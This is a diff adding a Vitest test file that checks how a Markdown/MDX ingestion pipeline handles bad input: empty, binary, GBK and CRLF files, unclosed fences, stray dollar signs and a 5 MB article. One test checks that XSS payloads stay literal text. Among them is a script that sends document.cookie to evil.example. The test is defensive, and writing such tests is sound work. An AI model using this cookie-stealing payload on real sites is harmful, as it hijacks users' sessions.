@@ -1,0 +1,223 @@
+/**
+ * Bad input (SPEC: "Bad input gets a clear error naming file and line, or is ingested faithfully;
+ * it never breaks the build silently, never loses text, never injects markup or script").
+ * Fixtures: tests/fixtures/bad-input/ (bytes made by generate.ts there); the 5 MB article is
+ * generated at test time.
+ */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Root } from 'mdast';
+import { toString } from 'mdast-util-to-string';
+import { visit } from 'unist-util-visit';
+import { describe, expect, it } from 'vitest';
+import { ingest, type IngestOutput } from '../../scripts/ingest/pipeline.ts';
+import { mdxParser } from '../../scripts/ingest/serialize.ts';
+import { BAD_INPUT } from '../fixtures/bad-input/generate.ts';
+import { bigArticle } from './support/big-article.ts';
+import { BAD_INPUT_DIR, catchIngestError, entryBody, source, splitFrontmatter } from './support/ingest.ts';
+
+const fixture = (name: string) => ({ file: name, bytes: new Uint8Array(readFileSync(join(BAD_INPUT_DIR, name))) });
+const ingestFixture = (name: string): IngestOutput => ingest({ sources: [fixture(name)] });
+const failFixture = (name: string) => catchIngestError(() => ingestFixture(name));
+/** 1-based line of the first line of a fixture (decoded as UTF-8, CRLF-agnostic) that satisfies `test`. */
+const lineWhere = (name: string, test: (line: string) => boolean): number =>
+  readFileSync(join(BAD_INPUT_DIR, name), 'utf8').split('\n').findIndex((l) => test(l.replace(/\r$/u, ''))) + 1;
+
+const textOf = (mdx: string): string => toString(mdxParser.parse(mdx)).replace(/\s+/gu, ' ');
+const allText = (out: IngestOutput): string =>
+  [...out.files]
+    .filter(([path]) => path.endsWith('.mdx'))
+    .map(([, content]) => textOf(splitFrontmatter(content).body))
+    .join('\n');
+
+describe('the committed fixtures are the bytes generate.ts makes (no editor or git normalisation)', () => {
+  it.each(Object.keys(BAD_INPUT))('%s', (name) => {
+    expect(Buffer.from(readFileSync(join(BAD_INPUT_DIR, name))).equals(Buffer.from(BAD_INPUT[name]!))).toBe(true);
+  });
+
+  it('and they have the properties the tests rely on', () => {
+    expect(BAD_INPUT['empty.txt']!.length).toBe(0);
+    expect([...BAD_INPUT['bom.txt']!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(Buffer.from(BAD_INPUT['crlf.txt']!).toString('utf8').match(/\r\n/gu)?.length).toBe(14);
+    expect(Buffer.from(BAD_INPUT['crlf.txt']!).toString('utf8').replace(/\r\n/gu, '')).not.toMatch(/[\r\n]/u);
+    expect(BAD_INPUT['binary.txt']!.includes(0)).toBe(true);
+    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(BAD_INPUT['gbk.txt'])).toThrow();
+  });
+});
+
+describe('refused with file and line', () => {
+  it('an empty file', () => {
+    const error = failFixture('empty.txt');
+    expect(error.message).toBe('empty.txt:1: the file is empty');
+  });
+
+  it('a file of whitespace only (spaces, tabs, an ideographic space)', () => {
+    const error = failFixture('whitespace-only.txt');
+    expect(error.message).toBe('whitespace-only.txt:1: the file contains only whitespace');
+  });
+
+  it('a binary file: the line of the first NUL byte', () => {
+    // Three lines of text, then a PNG header whose own CR LF and LF put its first NUL on line 6.
+    const bytes = BAD_INPUT['binary.txt']!;
+    const firstNul = bytes.indexOf(0);
+    const line = bytes.slice(0, firstNul).filter((b) => b === 0x0a).length + 1;
+    expect(line).toBe(6);
+    const error = failFixture('binary.txt');
+    expect(error.file).toBe('binary.txt');
+    expect(error.line).toBe(6);
+    expect(error.message).toMatch(/^binary\.txt:6: binary file/u);
+  });
+
+  it('a GBK-encoded file: the line of the first byte that is not UTF-8, with the fix', () => {
+    // Lines 1–2 are ASCII; line 3 starts the GBK text (whose first two characters even pass as UTF-8).
+    const error = failFixture('gbk.txt');
+    expect(error.file).toBe('gbk.txt');
+    expect(error.line).toBe(3);
+    expect(error.message).toContain('not valid UTF-8');
+    expect(error.message).toContain('iconv -f GBK -t UTF-8');
+  });
+
+  it('a file without any heading', () => {
+    const error = failFixture('no-headings.txt');
+    expect(error.message).toMatch(/^no-headings\.txt:1: no headings/u);
+  });
+
+  it('an unclosed code fence: the line of the opening fence', () => {
+    const line = lineWhere('unclosed-fence.txt', (l) => l === '```python');
+    expect(line).toBe(9);
+    const error = failFixture('unclosed-fence.txt');
+    expect(error.file).toBe('unclosed-fence.txt');
+    expect(error.line).toBe(line);
+    expect(error.message).toBe('unclosed-fence.txt:9: code fence ``` is never closed; add a closing ``` line');
+  });
+
+  it('an unclosed $$ math block, which would swallow the following questions the same way', () => {
+    const text = '### 1. 第一题\n\n$$\nx = 1\n\n### 2. 第二题\n\n答。\n';
+    const error = catchIngestError(() => ingest({ sources: [source('math.txt', text)] }));
+    expect(error.message).toBe('math.txt:3: math block $$ is never closed; add a closing $$ line');
+  });
+
+  it('a one-line $$…$$ formula is inline math, not an unclosed block', () => {
+    const out = ingest({ sources: [source('m.txt', '### 1. 第一题\n\n$$E=mc^2$$\n\n### 2. 第二题\n\n答。\n')] });
+    expect(out.entries).toHaveLength(2);
+  });
+});
+
+describe('ingested faithfully', () => {
+  it('a UTF-8 BOM: dropped, and the first line is still line 1', () => {
+    const out = ingestFixture('bom.txt');
+    expect(out.entries).toHaveLength(1);
+    expect(out.entries[0]!.source).toEqual({ file: 'bom.txt', heading: '1. 什么是带 BOM 的文件？', index: 1, line: 1 });
+    expect(out.entries[0]!.title).toBe('什么是带 BOM 的文件？');
+    for (const content of out.files.values()) expect(content).not.toContain('\uFEFF');
+    expect(allText(out)).toContain('文件开头有 U+FEFF 字节顺序标记。');
+  });
+
+  it('CRLF line endings: lines numbered as an editor shows them, no CR in the output, code intact', () => {
+    const out = ingestFixture('crlf.txt');
+    expect(out.entries.map((e) => [e.source.heading, e.source.line])).toEqual([
+      ['1. 什么是 CRLF？', lineWhere('crlf.txt', (l) => l === '#### 1. 什么是 CRLF？')],
+      ['2. 为什么要统一换行？', lineWhere('crlf.txt', (l) => l === '#### 2. 为什么要统一换行？')],
+    ]);
+    expect(out.entries.map((e) => e.source.line)).toEqual([3, 12]);
+    expect(JSON.parse(out.files.get('articles.json')!)[0]).toMatchObject({ title: '标题：Windows 换行的文章', titleLine: 1 });
+    for (const content of out.files.values()) expect(content).not.toContain('\r');
+    const code: string[] = [];
+    visit(mdxParser.parse(entryBody(out, 'crlf-q1')), 'code', (node) => void code.push(node.value));
+    expect(code).toEqual(['# 注释不是标题\nprint("hi")']);
+  });
+
+  it('duplicate question numbers: both kept, distinct ids, a warning at the repeat naming the first', () => {
+    const out = ingestFixture('duplicate-numbers.txt');
+    expect(out.entries.map((e) => [e.id, e.title, e.source.line])).toEqual([
+      ['duplicate-numbers-q1', '第一个问题？', 1],
+      ['duplicate-numbers-q2', '第二个问题？', 5],
+      ['duplicate-numbers-q2-2', '又一个第二题？', 9],
+      ['duplicate-numbers-q3', '第三个问题？', 13],
+    ]);
+    expect(out.report.warnings).toEqual([
+      { file: 'duplicate-numbers.txt', line: 9, message: 'question number 2 repeats (first at line 5); both kept with distinct ids' },
+    ]);
+    expect(textOf(entryBody(out, 'duplicate-numbers-q2-2'))).toBe('答二之二。');
+  });
+
+  it('<script>, <img onerror> and { } in prose: kept as literal text, never as markup or code', () => {
+    const out = ingestFixture('script-and-braces.txt');
+    const types = new Set<string>();
+    for (const [path, content] of out.files) {
+      if (!path.endsWith('.mdx')) continue;
+      visit(mdxParser.parse(splitFrontmatter(content).body), (node) => void types.add(node.type));
+    }
+    for (const type of ['mdxjsEsm', 'mdxJsxFlowElement', 'mdxJsxTextElement', 'mdxFlowExpression', 'mdxTextExpression', 'html']) {
+      expect(types).not.toContain(type);
+    }
+    const q1 = textOf(entryBody(out, 'script-and-braces-q1'));
+    expect(q1).toContain('攻击者常写 <script>alert("x")</script> 或 <img src=x onerror=alert(1)> 来注入脚本。');
+    expect(q1).toContain('<script> document.location = "https://evil.example/?c=" + document.cookie </script>');
+    const q2 = textOf(entryBody(out, 'script-and-braces-q2'));
+    expect(q2).toContain("字典 {'a': 1}，集合 {1, 2, 3}，单独的 { 和 } 也要原样保留。");
+    expect(q2).toContain('export default {}');
+  });
+
+  it('$100 next to real math: prices stay text, formulas stay math', () => {
+    const out = ingestFixture('dollar-and-math.txt');
+    const tree: Root = mdxParser.parse(entryBody(out, 'dollar-and-math-q1'));
+    const math: [string, string][] = [];
+    visit(tree, (node) => {
+      if (node.type === 'math' || node.type === 'inlineMath') math.push([node.type, node.value]);
+    });
+    expect(math).toEqual([
+      ['inlineMath', 'C = 100T'],
+      ['inlineMath', 'T'],
+      ['math', 'C_{total} = \\sum_{i=1}^{n} p_i \\cdot t_i'],
+    ]);
+    const text = textOf(entryBody(out, 'dollar-and-math-q1'));
+    expect(text).toContain('GPU 每小时 $100，训练 T 小时的总成本为');
+    expect(text).toContain('小时，每小时 $100。');
+    expect(text).toContain('原价 $5，折扣后 $3。');
+  });
+
+  it('a heading with only a number: named after its article and number, with a warning at its line', () => {
+    const out = ingestFixture('number-only-heading.txt');
+    const line = lineWhere('number-only-heading.txt', (l) => l === '### 7.');
+    expect(line).toBe(7);
+    const entry = out.entries.find((e) => e.source.index === 7)!;
+    expect(entry).toMatchObject({
+      id: 'number-only-heading-q7',
+      title: '坏输入：只有编号的标题 第 7 题',
+      source: { file: 'number-only-heading.txt', heading: '7.', index: 7, line },
+    });
+    expect(entry.questionSlug).toMatch(/^[a-z0-9-]+$/u);
+    expect(textOf(entryBody(out, entry.id))).toBe('这一题的标题只有编号。');
+    expect(out.report.warnings).toEqual([
+      { file: 'number-only-heading.txt', line, message: 'heading "7." has a number but no title; named after its article and number' },
+    ]);
+  });
+});
+
+describe('a 5 MB article', () => {
+  it(
+    'ingests in linear time (< 60 s of CPU), every question an entry at its own line, code comments not headings',
+    () => {
+      const article = bigArticle();
+      const bytes = new TextEncoder().encode(article.text);
+      expect(bytes.length).toBeGreaterThanOrEqual(5 * 1024 * 1024);
+
+      const cpu0 = process.cpuUsage();
+      const started = performance.now();
+      const out = ingest({ sources: [{ file: 'big.txt', bytes }] });
+      const wall = (performance.now() - started) / 1000;
+      const cpuUsed = process.cpuUsage(cpu0);
+      const cpu = (cpuUsed.user + cpuUsed.system) / 1e6;
+      console.log(`5 MB article (${bytes.length} bytes, ${article.questions} questions): ${wall.toFixed(1)} s wall, ${cpu.toFixed(1)} s CPU`);
+
+      // CPU time, not wall time: other processes on a shared machine must not fail this test.
+      expect(cpu).toBeLessThan(60);
+      expect(out.entries).toHaveLength(article.questions);
+      expect(out.entries.map((e) => e.source.line)).toEqual(article.headingLines);
+      expect(out.entries.map((e) => e.source.index)).toEqual(Array.from({ length: article.questions }, (_, i) => i + 1));
+      expect(out.report.warnings).toEqual([]);
+    },
+    240_000,
+  );
+});
